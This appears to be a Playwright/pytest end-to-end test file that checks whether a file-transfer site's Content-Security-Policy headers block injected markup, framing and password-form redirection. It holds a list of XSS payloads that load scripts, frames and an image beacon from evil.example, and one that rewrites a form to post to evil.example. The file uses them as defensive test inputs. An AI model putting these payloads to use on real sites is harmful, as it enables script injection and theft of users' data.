"""What stands in a page cannot make it do what it should not: the browser keeps to the policy that came with it.

That the policy allows all that the pages do, every test with a page says: none of them may complain.
"""

from http import HTTPStatus
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from backend.http.headers import Origins, every_answer, page_policy
from e2e.cloud import Cloud
from e2e.conftest import Watch
from e2e.sending import begin, put, stored

pytestmark = pytest.mark.any_deployment

# What somebody may get into a page who finds a hole in it, and the rule by which the browser is to keep it out. Where a
# page has no such rule, it is the one for all that is not named.
INJECTED = {
    "<script>document.title = 'ran'</script>": "script-src",
    "<img src='static/none' onerror=\"document.title = 'ran'\">": "script-src",
    "<script src='https://evil.example/x.js'></script>": "script-src",
    "<iframe srcdoc=\"<script>parent.document.title = 'ran'</script>\"></iframe>": "script-src",
    "<iframe src='https://evil.example/'></iframe>": "frame-src",
    "<object data='https://evil.example/x'></object>": "object-src",
    "<img src='https://evil.example/?told'>": "img-src",
    "<link rel='stylesheet' href='https://evil.example/x.css'>": "style-src",
    "<style>body { display: none }</style>": "style-src",
    "<p style='display: none'></p>": "style-src",
    "<base href='https://evil.example/'>": "base-uri",
}
# What a script of ours might do with a text that it should not have believed.
BELIEVED = (
    "document.body.innerHTML = '<b>x</b>'",
    "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "new Worker('static/x/zip-sw.js')",
    "document.createElement('script').src = 'x.js'",
    "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
    "setTimeout('document.title = 1')",
)


@pytest.fixture
def transfer(cloud: Cloud) -> Any:
    """Return a transfer of one stored file."""
    made = begin(cloud, b"1", name="a.txt", sign=1)
    put(cloud, made["urls"][0], b"1")
    stored(cloud, made)
    return made


def addresses(cloud: Cloud, transfer: Any) -> dict[str, str]:
    """Return a page of each kind, the password's last, because it then guards the transfer's."""
    locked = begin(cloud, b"1")
    place = f"api/transfers/{locked['id']}"
    cloud.call("PATCH", place, body={"password": "secret"}, token=locked["owner_token"])
    return {
        "upload.html": "",
        "transfer.html": f"t/{transfer['id']}",
        "error.html": "nonsense",
        "password.html": f"t/{locked['id']}",
    }


def test_every_kind_of_answer_carries_its_headers(cloud: Cloud, transfer: Any) -> None:
    """Through the real gateway: pages, static files, the API, a redirect and errors."""
    origin = "{0.scheme}://{0.netloc}".format(urlsplit(transfer["urls"][0]["url"]))
    origins = Origins(uploads=origin, downloads=origin)
    common = {"Cache-Control": "no-store", **every_answer(https=False)}
    policy = "Content-Security-Policy"
    own = {path: {policy: page_policy(name, origins)} for name, path in addresses(cloud, transfer).items()}
    static = cloud.call("GET", "").data.decode().partition('href="./static/')[2].partition("/")[0]
    immutable = {"Cache-Control": "public, max-age=31536000, immutable"}
    own |= {
        f"static/{static}/style.css": immutable,
        f"static/{static}/engine/send-worker.js": {policy: page_policy("engine/send-worker.js", origins), **immutable},
        f"api/transfers/{transfer['id']}": {},
        f"t/{transfer['id']}/files/1": {},
        f"t/{transfer['id']}/files/2": {policy: page_policy("error.html", origins)},
        "api/openapi.json": {},
        "api/nonsense": {},
    }
    for path, expected in own.items():
        told = cloud.call("GET", path).headers
        assert {name: told[name] for name in common} == {**common, **expected}, path


def test_what_is_injected_into_a_page_neither_runs_nor_loads(
    recipient: Page, cloud: Cloud, watch: Watch, transfer: Any
) -> None:
    """On every page; and the browser says of each piece which rule forbids it."""

    def inject(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", f"</main>{''.join(INJECTED)}"))

    for path in addresses(cloud, transfer).values():
        watch.complaints.clear()
        recipient.route(f"{cloud.address}{path}", inject)
        recipient.goto(f"{cloud.address}{path}")
        expect(recipient.locator("main")).to_be_visible()
        assert recipient.title() != "ran"
        said = [text for text in watch.complaints if "Content Security Policy" in text]
        assert len(said) >= len(INJECTED), said
        for directive in INJECTED.values():
            assert any(directive in text or "default-src" in text for text in said), (path, directive)


def test_no_text_becomes_a_script_or_markup(recipient: Page, cloud: Cloud, transfer: Any) -> None:
    """Whatever our own scripts did with it: the browser takes none."""
    for path in ("", f"t/{transfer['id']}"):
        recipient.goto(f"{cloud.address}{path}")
        for script in BELIEVED:
            raised = recipient.evaluate(f"() => {{ try {{ {script}; }} catch (error) {{ return error.name; }} }}")
            assert raised == "TypeError", script


def test_no_page_can_be_framed_by_another_site(browser: Browser, cloud: Cloud, transfer: Any) -> None:
    """So nobody lays something else over our buttons."""
    with browser.new_context() as context:
        other = context.new_page()
        for path in addresses(cloud, transfer).values():
            with other.expect_console_message(lambda message: "frame-ancestors" in message.text):
                other.set_content(f"<iframe src='{cloud.address}{path}'></iframe>")


def test_a_password_goes_nowhere_but_to_us(recipient: Page, cloud: Cloud, transfer: Any) -> None:
    """Whatever its form has been made to say."""
    recipient.goto(cloud.address + addresses(cloud, transfer)["password.html"])
    with recipient.expect_console_message(lambda message: "form-action" in message.text):
        recipient.locator("form").evaluate("form => { form.action = 'https://evil.example/'; form.submit(); }")


def test_the_gateways_own_answers_carry_the_same_headers(cloud: Cloud) -> None:
    """A path that no resource has is the one of them that the local cloud gives."""
    answer = cloud.call("GET", "t/x/files/1/2/3")
    assert answer.status == HTTPStatus.NOT_FOUND
    for name, value in every_answer(https=False).items():
        assert name == "Content-Security-Policy" or answer.headers[name] == value
